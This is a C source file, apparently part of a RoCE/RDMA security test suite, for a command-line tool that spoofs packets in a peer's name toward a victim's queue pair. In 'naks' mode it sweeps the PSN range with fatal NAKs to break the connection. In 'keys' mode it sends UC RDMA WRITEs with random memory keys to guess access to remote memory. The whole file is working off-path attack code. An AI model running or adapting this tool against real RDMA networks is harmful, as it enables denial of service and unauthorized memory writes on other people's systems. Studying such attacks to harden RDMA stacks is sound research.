/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * guess naks|keys INTERFACE PEER VICTIM VICTIM-MAC QPN COUNT
 *
 * A stranger sends packets to a queue pair of the victim in the peer's name, and sees no answer.
 * `naks` sends fatal NAKs through the whole range of PSNs, in steps smaller than an ordinary
 * window. `keys` sends WRITEs of eight bytes to address 0, over UC, with keys at random. The
 * stranger knows the queue pair number, and does not know the peer's UDP source port.
 */
#include <stdio.h>
#include <stdlib.h>

#include "support/stranger.h"
#include "wire/packet.h"

enum { PSN_STEP = 64 };

static struct gid gid_of(const char *text)
{
	uint8_t ipv4[4];

	if (inet_pton(AF_INET, text, ipv4) != 1)
		exit(2);
	return gid_from_ipv4(ipv4);
}

static void nak_make(struct packet *packet, uint32_t number)
{
	packet_init(packet, OPCODE_RC_ACKNOWLEDGE);
	packet->bth.psn = psn_from(number * PSN_STEP);
	packet->aeth = (struct aeth){AETH_NAK, AETH_NAK_INVALID_REQUEST, msn_from(number)};
}

static void write_make(struct packet *packet, uint32_t number)
{
	static const uint8_t payload[8] = "guessed";

	packet_init(packet, OPCODE_UC_WRITE_ONLY);
	packet->bth.psn = psn_from(number);
	packet->reth = (struct reth){
		0, (uint32_t)rand() << 16 ^ (uint32_t)rand(), (uint32_t)sizeof(payload)};
	packet_set_payload(packet, payload, sizeof(payload));
}

int main(int argc, char **argv)
{
	static struct stranger stranger;
	struct stranger_route route = {.source_port = 0};
	uint8_t bytes[128];
	uint32_t count, qpn;

	if (argc != 8 || stranger_open(&stranger, argv[2]) || !stranger_mac(argv[5], route.macs))
		return 2;
	memcpy(route.macs + sizeof(stranger.mac), stranger.mac, sizeof(stranger.mac));
	route.source = gid_of(argv[3]);
	route.destination = gid_of(argv[4]);
	qpn = (uint32_t)strtoul(argv[6], NULL, 0);
	count = (uint32_t)strtoul(argv[7], NULL, 0);
	for (uint32_t i = 0; i < count; i++) {
		struct packet packet = {.info = NULL};

		if (strcmp(argv[1], "naks") == 0)
			nak_make(&packet, i);
		else
			write_make(&packet, i);
		packet.bth.dest_qpn = qpn_from(qpn);
		size_t headers = packet_encode_headers(&packet, bytes);
		memcpy(bytes + headers, packet.payload, packet.payload_bytes);
		route.source_port = (uint16_t)(ROCE_SOURCE_PORT_MIN + rand() % 0x4000);
		stranger_send(&stranger, &route, bytes, (uint32_t)packet_bytes(&packet));
	}
	stranger_flush(&stranger);
	return 0;
}
